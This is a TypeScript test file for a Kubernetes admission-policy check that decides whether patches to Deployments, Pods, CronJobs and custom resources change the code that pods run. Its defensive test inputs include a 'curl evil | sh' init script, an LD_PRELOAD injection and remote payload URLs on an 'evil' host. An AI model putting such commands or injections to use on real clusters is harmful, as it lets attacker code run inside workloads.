import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { changesCode, changesCodeUnjudged } from '../../../src/policy/pods/changes-code.ts'
import { aRequest } from '../a-request.ts'

const WEB = 'PATCH /apis/apps/v1/namespaces/x/deployments/web'
const STRATEGIC = 'application/strategic-merge-patch+json'
const MERGE = 'application/merge-patch+json'
const STEPS = 'application/json-patch+json'

function changes(body: object, contentType = STRATEGIC, line = WEB): boolean {
  return changesCode(aRequest(line, { contentType, body: JSON.stringify(body) }))
}

const inPod = (spec: object) => ({ spec: { template: { spec } } })
const inContainer = (fields: object) => inPod({ containers: [{ name: 'web', ...fields }] })
const onPod = (metadata: object) => ({ spec: { template: { metadata } } })

describe('changesCode', () => {
  test.each([
    { name: 'nothing', body: {} },
    { name: 'a restart', body: onPod({ annotations: { 'kubectl.kubernetes.io/restartedAt': 'now' } }) },
    { name: 'a label on the pods', body: onPod({ labels: { release: 'a' } }) },
    { name: 'an annotation', body: { metadata: { annotations: { note: 'a' } } } },
    { name: 'a label that goes', body: { metadata: { labels: { old: null } } } },
    { name: 'a scale', body: { spec: { replicas: 3 } } },
    { name: 'a pause', body: { spec: { paused: true } } },
    {
      name: 'a strategy as kubectl apply sends it',
      body: { spec: { strategy: { $retainKeys: ['type'], type: 'Recreate' } } },
    },
    { name: 'a status', body: { status: { replicas: 1 } } },
  ])('$name is none', ({ body }) => {
    expect(changes(body)).toBe(false)
    expect(changes(body, MERGE)).toBe(false)
    expect(changes(body, 'application/apply-patch+yaml')).toBe(false)
  })

  test.each([
    { name: 'an image', body: inContainer({ image: 'evil' }) },
    { name: 'a command', body: inContainer({ command: ['sh'] }) },
    { name: 'arguments', body: inContainer({ args: ['-c'] }) },
    { name: 'a variable', body: inContainer({ env: [{ name: 'LD_PRELOAD', value: '/x' }] }) },
    { name: 'a probe', body: inContainer({ livenessProbe: { exec: { command: ['id'] } } }) },
    { name: 'a hook', body: inContainer({ lifecycle: { postStart: { exec: { command: ['id'] } } } }) },
    { name: 'a mount', body: inContainer({ volumeMounts: [{ name: 'v', mountPath: '/bin' }] }) },
    { name: 'a volume', body: inPod({ volumes: [{ name: 'v', configMap: { name: 'c' } }] }) },
    { name: 'an init container', body: inPod({ initContainers: [{ name: 'i', image: 'evil' }] }) },
    { name: 'a host name', body: inPod({ hostAliases: [{ ip: '10.0.0.1', hostnames: ['db'] }] }) },
    { name: 'a name server', body: inPod({ dnsConfig: { nameservers: ['10.0.0.1'] } }) },
    { name: 'another selector', body: { spec: { selector: { matchLabels: { app: 'other' } } } } },
    { name: 'a template that is replaced', body: { spec: { template: { $patch: 'replace' } } } },
    { name: 'a template that goes', body: { spec: { template: null } } },
    { name: 'a spec that is replaced', body: { spec: { $patch: 'replace', replicas: 1 } } },
    { name: 'containers in another order', body: inPod({ '$setElementOrder/containers': [{ name: 'a' }] }) },
    {
      name: 'an AppArmor profile by an annotation',
      body: onPod({ annotations: { 'container.apparmor.security.beta.kubernetes.io/web': 'runtime/default' } }),
    },
    {
      name: 'such an annotation that goes',
      body: onPod({ annotations: { 'container.apparmor.security.beta.kubernetes.io/web': null } }),
    },
    { name: 'all annotations that go', body: onPod({ annotations: null }) },
    { name: 'all annotations that are replaced', body: onPod({ annotations: { $patch: 'replace', a: 'b' } }) },
    { name: 'a template of a sidecar', body: onPod({ annotations: { 'inject.istio.io/templates': 'mine' } }) },
    { name: 'labels that an injector goes by', body: onPod({ labels: { 'sidecar.istio.io/inject': 'true' } }) },
    { name: 'a field that is not known', body: { spec: { else: 1 } } },
  ])('$name is one', ({ body }) => {
    expect(changes(body)).toBe(true)
    expect(changes(body, MERGE)).toBe(true)
    expect(changes(body, 'application/apply-patch+yaml')).toBe(true)
  })

  test.each([
    { op: 'replace', path: '/spec/replicas', value: 3, want: false },
    { op: 'test', path: '/spec/template/spec/containers/0/image', value: 'a', want: false },
    { op: 'add', path: '/spec/template/metadata/annotations/note', value: 'a', want: false },
    { op: 'remove', path: '/metadata/labels/note', want: false },
    { op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'evil', want: true },
    { op: 'replace', path: '/spec/template', value: {}, want: true },
    { op: 'add', path: '/spec/template/metadata', value: {}, want: true },
    { op: 'add', path: '/spec/template/metadata/annotations', value: { a: 'b' }, want: true },
    { op: 'replace', path: '/spec/template/metadata/annotations/inject.istio.io~1templates', value: 'a', want: true },
    { op: 'add', path: '/metadata', value: {}, want: false },
    { op: 'add', path: '/spec', value: {}, want: true },
    { op: 'remove', path: '/spec/template/metadata/annotations', want: true },
    { op: 'remove', path: '/spec/template/spec/containers/0/livenessProbe', want: true },
    { op: 'copy', from: '/metadata/annotations/a', path: '/metadata/annotations/b', want: true },
    { op: 'move', from: '/spec/template', path: '/spec/old', want: true },
    { op: 'replace', path: '', value: { spec: { template: {} } }, want: true },
  ])('a JSON patch: $op $path is one: $want', ({ want, ...step }) => {
    expect(changes([step], STEPS)).toBe(want)
  })

  test.each([
    { line: 'PUT /apis/apps/v1/namespaces/x/deployments/web', body: inContainer({ image: 'a' }), want: true },
    { line: 'PATCH /api/v1/namespaces/x/pods/p', body: { spec: { containers: [{ image: 'a' }] } }, want: true },
    { line: 'PATCH /api/v1/namespaces/x/pods/p', body: { metadata: { labels: { a: 'b' } } }, want: false },
    { line: 'PATCH /apis/apps/v1/namespaces/x/deployments/web/scale', body: { spec: { replicas: 1 } }, want: false },
    { line: 'POST /apis/apps/v1/namespaces/x/deployments', body: inContainer({ image: 'a' }), want: false },
    { line: 'PATCH /api/v1/namespaces/x/configmaps/c', body: { data: { containers: 'a' } }, want: false },
    { line: 'PATCH /apis/argoproj.io/v1alpha1/namespaces/x/rollouts/r', body: inContainer({ image: 'a' }), want: true },
    { line: 'PATCH /apis/argoproj.io/v1alpha1/namespaces/x/rollouts/r', body: { spec: { replicas: 1 } }, want: false },
    {
      line: 'PATCH /apis/batch/v1/namespaces/x/cronjobs/c',
      body: { spec: { suspend: true, jobTemplate: { spec: { parallelism: 1 } } } },
      want: false,
    },
    {
      line: 'PATCH /apis/batch/v1/namespaces/x/cronjobs/c',
      body: { spec: { jobTemplate: { spec: inContainer({ image: 'a' }).spec } } },
      want: true,
    },
  ])('$line: $want', ({ line, body, want }) => {
    expect(changes(body, line.startsWith('PATCH') ? MERGE : 'application/json', line)).toBe(want)
  })

  test.each(['application/cbor', 'application/vnd.kubernetes.protobuf', STEPS])('what is no %s is one', contentType => {
    expect(changesCode(aRequest(WEB, { contentType, body: 'x' }))).toBe(true)
  })

  test('whatever else a harmless patch says of the pods, it is one', () => {
    const harmless = { replicas: 2, template: { metadata: { annotations: { a: 'b' } } } }
    const other = fc.string().filter(name => name !== 'metadata')
    fc.assert(
      fc.property(other, fc.jsonValue(), (name, value) => {
        const body = { spec: { ...harmless, template: { ...harmless.template, [name]: value } } }
        expect(changes(body, MERGE)).toBe(true)
      }),
    )
  })
})

describe('changesCodeUnjudged', () => {
  const THING = 'PATCH /apis/things.example/v1/namespaces/x/things/t'
  const unjudged = (line: string, contentType: string, body: unknown) =>
    changesCodeUnjudged(aRequest(line, { contentType, body: JSON.stringify(body) }))
  const image = { containers: [{ name: 'c', image: 'evil' }] }

  test.each([
    { name: 'containers in a list', spec: { replicatedJobs: [{ template: { spec: { template: { spec: image } } } }] } },
    { name: 'containers by another name', spec: { leaderWorkerTemplate: { workerTemplate: { spec: image } } } },
    { name: 'an image by itself', spec: { image: 'evil' } },
    { name: 'a disk of a machine', spec: { template: { spec: { volumes: [{ containerDisk: { image: 'evil' } }] } } } },
    { name: 'what a job of Ray begins with', spec: { entrypoint: 'sh -c x' } },
    { name: 'where Ray takes its packages from', spec: { runtimeEnvYAML: 'pip: [evil]' } },
    { name: 'the program of a job of Flink', spec: { job: { jarURI: 'https://evil/x.jar' } } },
    { name: 'the program of a job of Spark', spec: { mainApplicationFile: 'https://evil/x.py' } },
    { name: 'a class of it', spec: { mainClass: 'evil.Main' } },
    { name: 'a command', spec: { command: ['sh'], args: ['-c', 'x'] } },
    { name: 'arguments by another name', spec: { driver: { javaOptions: '', extraArgs: ['--exec', 'x'] } } },
    { name: 'a script', spec: { initScript: 'curl evil | sh' } },
    { name: 'variables', spec: { env: [{ name: 'LD_PRELOAD', value: '/x' }] } },
    { name: 'where an image lies', spec: { imageRepository: 'evil' } },
    { name: 'both a known place and another', spec: { template: { spec: image }, driver: { image: 'evil' } } },
  ])('$name may change behind what admission sees', ({ spec }) => {
    expect(unjudged(THING, MERGE, { spec })).toBe(true)
    expect(unjudged(THING, 'application/apply-patch+yaml', { spec })).toBe(true)
    const [[name, value] = ['', null]] = Object.entries(spec).reverse()
    expect(unjudged(THING, STEPS, [{ op: 'add', path: `/spec/${name}`, value }])).toBe(true)
  })

  test.each([
    { name: 'containers where Deployments have them', line: THING, body: inPod(image) },
    { name: 'a pod template', line: THING, body: { spec: { podTemplate: { spec: image } } } },
    { name: 'the name of a stage', line: THING, body: { spec: { environment: 'production' } } },
    { name: 'a schedule', line: THING, body: { spec: { schedule: '* * * * *', suspend: true } } },
    { name: 'a scale', line: THING, body: { spec: { replicas: 2 } } },
    { name: "Kubernetes' own kinds", line: WEB, body: { spec: { replicatedJobs: [image] } } },
    { name: 'a whole object', line: THING.replace('PATCH', 'PUT'), body: { spec: { image: 'evil' } } },
  ])('not $name', ({ line, body }) => {
    expect(unjudged(line, line.startsWith('PUT') ? 'application/json' : MERGE, body)).toBe(false)
  })
})
